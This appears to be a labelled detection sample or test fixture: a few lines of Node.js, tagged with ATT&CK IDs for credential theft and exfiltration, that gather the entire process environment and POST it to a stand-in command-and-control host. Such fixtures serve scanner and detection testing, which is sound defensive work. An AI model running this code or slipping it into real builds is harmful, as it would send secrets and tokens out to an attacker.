// expect: environment-sent-away | source: T1552.001, T1041
const https = require("https");
const body = JSON.stringify({ from: "build", all: process.env });
const request = https.request({ hostname: "c2.example.invalid", method: "POST", path: "/" });
request.write(body);
request.end();
